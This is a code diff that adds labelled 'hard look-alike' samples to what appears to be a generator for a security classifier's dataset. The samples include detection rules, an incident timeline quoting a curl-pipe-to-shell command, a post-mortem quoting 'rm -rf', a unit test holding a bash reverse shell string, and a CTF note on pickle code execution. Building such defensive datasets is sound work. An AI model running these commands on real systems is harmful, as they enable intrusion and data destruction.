@@ -742,4 +742,86 @@ def build() -> Gen:
         "GitHub Actions uses secrets in env, not echoed",
         "- name: deploy\n  env:\n    FLY_API_TOKEN: ${{ secrets.FLY_API_TOKEN }}\n  run: flyctl deploy --remote-only",
     )
+
+    # ---- added: hard look-alikes that quote attack code as data
+    add(
+        L,
+        "detection_rule",
+        "document",
+        True,
+        "Sigma rule naming certutil urlcache",
+        "title: Certutil download\nlogsource: { category: process_creation, product: windows }\ndetection:\n  selection:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains|all: ['-urlcache', '-f', 'http']\n  condition: selection\nlevel: high",
+    )
+    add(
+        L,
+        "detection_rule",
+        "agent",
+        True,
+        "ZH YARA-like rule for reverse shells",
+        '检测规则草稿（只匹配，不执行）：\nrule bash_dev_tcp {\n  strings:\n    $a = "/dev/tcp/" ascii\n    $b = "bash -i" ascii\n  condition:\n    all of them\n}',
+    )
+    add(
+        L,
+        "incident_writeup",
+        "document",
+        True,
+        "SOC write-up quoting attacker command",
+        "Incident 2026-031 timeline:\n09:12 attacker ran `curl -s http://203.0.113.9/x | sh` on web-02 (blocked by egress policy)\n09:14 host isolated\n09:40 image rebuilt from the golden AMI\nLesson: keep egress deny-by-default.",
+    )
+    add(
+        L,
+        "incident_writeup",
+        "document",
+        True,
+        "ZH post-mortem quoting deleted command",
+        "事故复盘：值班同学误执行了 `rm -rf /data/*`（本意是 /data/tmp/*），导致服务中断 40 分钟。改进：危险命令加确认脚本，生产机禁用 root 登录。",
+    )
+    add(
+        L,
+        "test_fixture_fake_key",
+        "tool",
+        True,
+        "unit test for the scanner with attack string as data",
+        'def test_flags_reverse_shell():\n    sample = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"\n    assert classify(sample) == "reject"  # the string is only data for the test',
+    )
+    add(
+        L,
+        "teaching_eval_exec",
+        "document",
+        True,
+        "ZH CTF write-up explaining pickle risk",
+        "CTF 题解：题目用 `pickle.loads` 反序列化用户上传的数据，所以可以构造 __reduce__ 执行命令。修复方法是改用 JSON，并对上传内容签名校验。",
+    )
+    add(
+        L,
+        "shell_script",
+        "user",
+        True,
+        "tar | ssh to own backup host",
+        "tar czf - /srv/app/uploads | ssh backup@backup.corp.example.com 'cat > /backups/uploads-$(date +%F).tgz'",
+    )
+    add(
+        L,
+        "python",
+        "tool",
+        True,
+        "ZH own telemetry with no secrets",
+        '上报构建耗时到我们自己的监控：\nrequests.post("https://metrics.corp.example.com/v1/build", json={"job": job, "seconds": elapsed}, timeout=5)',
+    )
+    add(
+        L,
+        "config_placeholder",
+        "document",
+        True,
+        "git credential helper, no token",
+        '[credential]\n\thelper = osxkeychain\n[url "git@git.corp.example.com:"]\n\tinsteadOf = https://git.corp.example.com/',
+    )
+    add(
+        L,
+        "dockerfile",
+        "agent",
+        True,
+        "ZH Dockerfile HEALTHCHECK curl localhost",
+        "健康检查：\nHEALTHCHECK --interval=30s CMD curl -fs http://localhost:8080/health || exit 1",
+    )
     return g
